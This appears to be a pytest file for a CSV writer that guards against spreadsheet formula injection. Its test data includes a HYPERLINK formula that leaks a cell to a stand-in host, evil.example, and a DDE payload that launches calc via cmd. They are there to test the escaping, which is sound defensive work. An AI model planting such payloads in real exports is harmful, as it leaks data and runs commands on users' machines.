"""The one CSV writer: text cells that a spreadsheet would run as a formula are
escaped (OWASP's leading ``'``), numbers the server computed stay numbers, and no
other module writes CSV."""

import csv
import datetime
import io
import re
import uuid
from decimal import Decimal
from pathlib import Path

import pytest

from core.csvfile import csv_response, csv_text, text_cell

# The second attacker's round (issue 18), and the other starts OWASP lists.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+2",
    "\r=1+2",
]
ROOT = Path(__file__).resolve().parents[2]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_a_formula_gets_a_quote_before_it(attack):
    assert text_cell(attack) == "'" + attack
    assert _cells(csv_text([["name", attack]])) == [["name", "'" + attack]]


def test_exact_text_of_the_attacks():
    text = csv_text([[attack] for attack in ATTACKS[:4]])
    assert text == (
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"\r\n'
        '"\'+SUM(1,2)"\r\n'
        "'-2+3+cmd|' /C calc'!A0\r\n"
        '"\'@SUM(1,1)"\r\n'
    )


@pytest.mark.parametrize("plain", ["Cappuccino", "Борщ", "a=b", "1+1", "'quoted", "", " =1+2"])
def test_other_text_is_left_alone(plain):
    assert text_cell(plain) == plain


def test_numbers_the_server_computed_stay_numbers():
    """A negative sum is money, not a formula: escaping goes by the cell's type."""
    day = datetime.date(2026, 1, 15)
    pk = uuid.UUID("6f1c0000-0000-4000-8000-000000000001")
    text = csv_text([["net", Decimal("-350.00"), -5, 7, Decimal("0.00"), day, pk, None]])
    assert text == "net,-350.00,-5,7,0.00,2026-01-15,6f1c0000-0000-4000-8000-000000000001,\r\n"
    assert csv_text([["-350.00", "-5"]]) == "'-350.00,'-5\r\n"  # the same look, as text: escaped


def test_a_decimal_is_never_written_in_exponent_form():
    assert csv_text([[Decimal("0E-2"), Decimal("1E+3")]]) == "0.00,1000\r\n"


def test_a_semicolon_cannot_start_a_new_cell_in_a_semicolon_locale():
    """Excel in many locales splits on ';': text holding one is quoted, so
    ``Tea;=1+2`` stays one cell that begins with ``T``."""
    text = csv_text([['Tea;=HYPERLINK("http://x")', "a,b", 'say "hi"', "two\nlines", "tab\there"]])
    assert text == '"Tea;=HYPERLINK(""http://x"")","a,b","say ""hi""","two\nlines","tab\there"\r\n'
    assert _cells(text) == [['Tea;=HYPERLINK("http://x")', "a,b", 'say "hi"', "two\nlines", "tab\there"]]


def test_empty_rows_and_cells():
    assert csv_text([[], ["a", None, ""], []]) == "\r\na,,\r\n\r\n"


@pytest.mark.parametrize(
    "value",
    [1.5, True, datetime.datetime(2026, 1, 15, tzinfo=datetime.UTC), object(), b"=1+2", ["=1+2"]],
)
def test_a_value_of_unknown_origin_is_refused(value):
    with pytest.raises(TypeError):
        csv_text([[value]])


def test_the_answer_is_a_download():
    response = csv_response([["a", Decimal("1.00")]], filename="report-daily-2026-01-15-company.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report-daily-2026-01-15-company.csv"'
    assert response.content == b"a,1.00\r\n"


@pytest.mark.parametrize("name", ['a".csv', "a\r\nb.csv", "отчёт.csv", "", "a b.csv", "a;b.csv"])
def test_an_unsafe_file_name_is_a_programming_error(name):
    with pytest.raises(ValueError, match="Not a safe file name"):
        csv_response([], filename=name)


def test_every_csv_goes_through_the_one_writer():
    """No module but core/csvfile.py imports Python's csv or builds a text/csv
    answer itself (tests may read CSV)."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "bench/")) or "/tests/" in relative or relative == "core/csvfile.py":
            continue
        source = path.read_text()
        if re.search(r"^\s*(import csv\b|from csv import)", source, re.MULTILINE) or "csv.writer" in source:
            offenders.append(relative)
        if "text/csv" in source and not relative.endswith("/schema.py"):  # OpenAPI documents name it
            offenders.append(relative)
    assert offenders == []
